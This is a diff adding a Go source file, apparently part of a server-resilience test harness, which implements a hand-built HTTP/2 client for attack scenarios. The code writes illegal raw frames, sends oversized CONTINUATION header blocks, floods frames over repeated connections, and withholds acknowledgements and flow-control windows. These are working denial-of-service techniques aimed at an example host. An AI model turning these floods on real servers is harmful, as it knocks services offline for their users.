@@ -1,0 +1,391 @@
+package attacks
+
+import (
+	"bytes"
+	"crypto/tls"
+	"encoding/binary"
+	"errors"
+	"io"
+	"net"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// pieces is how much is written at once.
+const pieces = 15 << 10
+
+// peer is a client that speaks HTTP/2 by hand. What is written with its Framer goes out by flush.
+type peer struct {
+	*http2.Framer
+	a       *assault
+	conn    *tls.Conn
+	out     bytes.Buffer
+	encoder *hpack.Encoder
+	block   bytes.Buffer
+	next    uint32
+	frames  int64
+
+	mute atomic.Bool   // it acknowledges nothing
+	deaf atomic.Bool   // it gives no windows back
+	told chan struct{} // closed when a GOAWAY says that it did wrong, or nothing more can be read
+	gone chan struct{} // closed when nothing more can be read
+	how  string        // valid then
+	code string        // of a GOAWAY that says that it did wrong; valid when told is closed
+
+	window atomic.Int64 // what may be sent on the connection
+
+	began time.Time
+	past  bool // it goes on when it was told to stop
+
+	writing sync.Mutex // one record at a time
+
+	mu      sync.Mutex // guards what follows
+	waiting map[uint32]chan string
+}
+
+// greet connects and says what a client says first.
+func (a *assault) greet(settings ...http2.Setting) (*peer, error) {
+	conn, err := a.dial("h2")
+	if err != nil {
+		return nil, err
+	}
+	p := newPeer(a, conn)
+	p.out.WriteString(http2.ClientPreface)
+	_ = p.WriteSettings(settings...)
+	err = p.flushRaw(1)
+	go p.listen() // not before: what it acknowledges must not come before the preface
+	return p, err
+}
+
+func newPeer(a *assault, conn *tls.Conn) *peer {
+	p := &peer{a: a, conn: conn, next: 1, gone: make(chan struct{}), told: make(chan struct{}), began: time.Now(), waiting: map[uint32]chan string{}}
+	p.Framer = http2.NewFramer(&p.out, nil)
+	p.AllowIllegalWrites = true
+	p.window.Store(65_535)
+	p.encoder = hpack.NewEncoder(&p.block)
+	return p
+}
+
+// encode is a header block of these fields.
+func (p *peer) encode(fields ...string) []byte {
+	p.block.Reset()
+	for i := 0; i+1 < len(fields); i += 2 {
+		_ = p.encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
+	}
+	return bytes.Clone(p.block.Bytes())
+}
+
+// request are the fields of one of the attacker's, with more after them.
+func request(method, path string, more ...string) []string {
+	return append([]string{":method", method, ":scheme", "https", ":authority", "front.example.com", ":path", path, "authorization", "Bearer " + attackerToken}, more...)
+}
+
+// nobody are the fields of a request without a credential.
+func nobody(method, path string, more ...string) []string {
+	return append([]string{":method", method, ":scheme", "https", ":authority", "front.example.com", ":path", path}, more...)
+}
+
+func (p *peer) id() uint32 {
+	p.next += 2
+	return p.next - 2
+}
+
+// open begins a stream with these fields.
+func (p *peer) open(end bool, fields ...string) uint32 {
+	id := p.id()
+	_ = p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.encode(fields...), EndHeaders: true, EndStream: end})
+	return id
+}
+
+// opened is open with a block that is encoded already.
+func (p *peer) opened(end bool, block []byte) uint32 {
+	id := p.id()
+	_ = p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: end})
+	return id
+}
+
+// long opens a stream with a block of any length, in as many frames as it takes.
+func (p *peer) long(end bool, block []byte) uint32 {
+	id := p.id()
+	first := block[:min(len(block), 16_000)]
+	block = block[len(first):]
+	_ = p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndHeaders: len(block) == 0, EndStream: end})
+	for len(block) > 0 {
+		part := block[:min(len(block), 16_000)]
+		block = block[len(part):]
+		_ = p.WriteContinuation(id, len(block) == 0, part)
+	}
+	return id
+}
+
+// flush sends what was written, and counts it.
+func (p *peer) flush() error {
+	n := 0
+	for b := p.out.Bytes(); len(b) >= 9; n++ {
+		length := int(b[0])<<16 | int(b[1])<<8 | int(b[2])
+		b = b[min(len(b), 9+length):]
+	}
+	return p.flushRaw(n)
+}
+
+func (p *peer) flushRaw(frames int) error {
+	p.writing.Lock()
+	defer p.writing.Unlock()
+	_ = p.conn.SetWriteDeadline(time.Now().Add(time.Second))
+	n, err := p.conn.Write(p.out.Bytes())
+	p.out.Reset()
+	if err != nil {
+		return err
+	}
+	p.frames += int64(frames)
+	p.a.sent(frames, n)
+	return nil
+}
+
+// word is how it was told that it has ended, once it was.
+func (p *peer) word() string {
+	if p.code != "" {
+		return p.code
+	}
+	<-p.gone
+	return p.how
+}
+
+// flood sends pieces until the time is over, or nobody takes them any more. It reports how that ended.
+func (p *peer) flood(each func(*peer)) {
+	for !p.a.over() {
+		for p.out.Len() < pieces {
+			each(p)
+		}
+		if p.ended() || p.flush() != nil {
+			return
+		}
+	}
+}
+
+// ended reports whether there is no use in going on.
+func (p *peer) ended() bool {
+	stop := p.told
+	if p.past {
+		stop = p.gone
+	}
+	select {
+	case <-stop:
+		return true
+	default:
+		return false
+	}
+}
+
+// leave ends the connection and notes how it ended: by whom, and with which word. One that only the end of the attack ended
+// was let be, if it was there for half of it.
+func (p *peer) leave() {
+	p.a.mostOf(p.frames)
+	patience := time.Second
+	if p.a.over() {
+		patience = 20 * time.Millisecond
+	}
+	select {
+	case <-p.told:
+	case <-time.After(patience):
+	}
+	p.a.close(p.conn.NetConn())
+	<-p.gone
+	switch {
+	case p.how != "":
+		p.a.came("ended: %s", p.how)
+	case time.Since(p.began) > time.Since(p.a.began)/2:
+		p.a.came("let be")
+	}
+}
+
+var settingsAck = []byte{0, 0, 0, 4, 1, 0, 0, 0, 0}
+
+// write sends a frame that somebody asked for.
+func (p *peer) write(frame []byte) {
+	if p.mute.Load() {
+		return
+	}
+	p.writing.Lock()
+	defer p.writing.Unlock()
+	_ = p.conn.SetWriteDeadline(time.Now().Add(time.Second))
+	_, _ = p.conn.Write(frame)
+}
+
+// listen reads until the connection ends.
+func (p *peer) listen() {
+	f := http2.NewFramer(io.Discard, p.conn)
+	f.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
+	f.MaxHeaderListSize = 1 << 20
+	f.SetMaxReadFrameSize(1 << 20)
+	how := ""
+	var warned sync.Once
+	for {
+		frame, err := f.ReadFrame()
+		if err != nil {
+			if how == "" && !errors.Is(err, net.ErrClosed) {
+				how = brief(err)
+			}
+			break
+		}
+		switch frame := frame.(type) {
+		case *http2.SettingsFrame:
+			if !frame.IsAck() {
+				p.write(settingsAck)
+			}
+		case *http2.PingFrame:
+			if !frame.IsAck() {
+				p.write(append([]byte{0, 0, 8, 6, 1, 0, 0, 0, 0}, frame.Data[:]...))
+			}
+		case *http2.GoAwayFrame:
+			if frame.ErrCode != http2.ErrCodeNo {
+				how = "GOAWAY " + frame.ErrCode.String()
+				warned.Do(func() {
+					p.code = how
+					close(p.told)
+				})
+			}
+		case *http2.WindowUpdateFrame:
+			if frame.StreamID == 0 {
+				p.window.Add(int64(frame.Increment))
+			}
+		case *http2.RSTStreamFrame:
+			if frame.ErrCode != http2.ErrCodeNo {
+				p.a.came("reset: %s", frame.ErrCode)
+			}
+			p.tell(frame.StreamID, "reset "+frame.ErrCode.String())
+		case *http2.MetaHeadersFrame:
+			if status := frame.PseudoValue("status"); status != "" && !strings.HasPrefix(status, "1") {
+				p.a.came("answered: %s", status)
+				p.tell(frame.StreamID, status)
+			}
+		case *http2.DataFrame:
+			if n := frame.Header().Length; n > 0 && !p.deaf.Load() {
+				p.write(windowUpdate(0, n))
+				if !frame.StreamEnded() {
+					p.write(windowUpdate(frame.StreamID, n))
+				}
+			}
+		}
+	}
+	p.how = how
+	warned.Do(func() { close(p.told) })
+	close(p.gone)
+}
+
+func windowUpdate(stream, n uint32) []byte {
+	b := []byte{0, 0, 4, 8, 0}
+	b = binary.BigEndian.AppendUint32(b, stream)
+	return binary.BigEndian.AppendUint32(b, n)
+}
+
+// expect is the status of a stream's answer, once it is there.
+func (p *peer) expect(id uint32) <-chan string {
+	c := make(chan string, 1)
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	p.waiting[id] = c
+	return c
+}
+
+func (p *peer) tell(id uint32, what string) {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	if c := p.waiting[id]; c != nil {
+		c <- what
+		delete(p.waiting, id)
+	}
+}
+
+// ask sends a request and waits for its status, "" when the connection ends or nothing comes.
+func (p *peer) ask(method, path string, more ...string) string {
+	id := p.id()
+	answer := p.expect(id)
+	_ = p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.encode(request(method, path, more...)...), EndHeaders: true, EndStream: true})
+	if p.flush() != nil {
+		return ""
+	}
+	return p.wait(answer)
+}
+
+func (p *peer) wait(answer <-chan string) string {
+	select {
+	case status := <-answer:
+		return status
+	case <-p.gone:
+		select {
+		case status := <-answer:
+			return status
+		default:
+			return ""
+		}
+	case <-time.After(5 * time.Second):
+		return ""
+	}
+}
+
+// floods is an attack: connections that each begin and then flood, and come again when they are ended.
+func floods(begin, each func(*peer), settings ...http2.Setting) func(*assault) {
+	return func(a *assault) {
+		a.again(2, func() error {
+			p, err := a.greet(settings...)
+			if err != nil {
+				return err
+			}
+			if begin != nil {
+				begin(p)
+			}
+			p.flood(each)
+			p.leave()
+			return nil
+		})
+	}
+}
+
+// frame is one that is the same every time.
+func frame(kind http2.FrameType, flags http2.Flags, stream uint32, payload string) func(*peer) {
+	var b bytes.Buffer
+	_ = http2.NewFramer(&b, nil).WriteRawFrame(kind, flags, stream, []byte(payload))
+	return func(p *peer) { p.out.Write(b.Bytes()) }
+}
+
+// deafFloods is floods that never read: what is answered to them stays where it is.
+func deafFloods(begin, each func(*peer)) func(*assault) {
+	return func(a *assault) {
+		a.again(2, func() error {
+			conn, err := a.dial("h2")
+			if err != nil {
+				return err
+			}
+			p := newPeer(a, conn)
+			p.out.WriteString(http2.ClientPreface)
+			_ = p.WriteSettings()
+			if begin != nil {
+				begin(p)
+			}
+			began := time.Now()
+			for !a.over() {
+				for p.out.Len() < pieces {
+					each(p)
+				}
+				if err = p.flush(); err != nil {
+					break
+				}
+			}
+			a.mostOf(p.frames)
+			switch {
+			case err != nil:
+				a.came("ended: %s", brief(err))
+			case time.Since(began) > time.Since(a.began)/2:
+				a.came("let be")
+			}
+			a.close(conn.NetConn())
+			return nil
+		})
+	}
+}
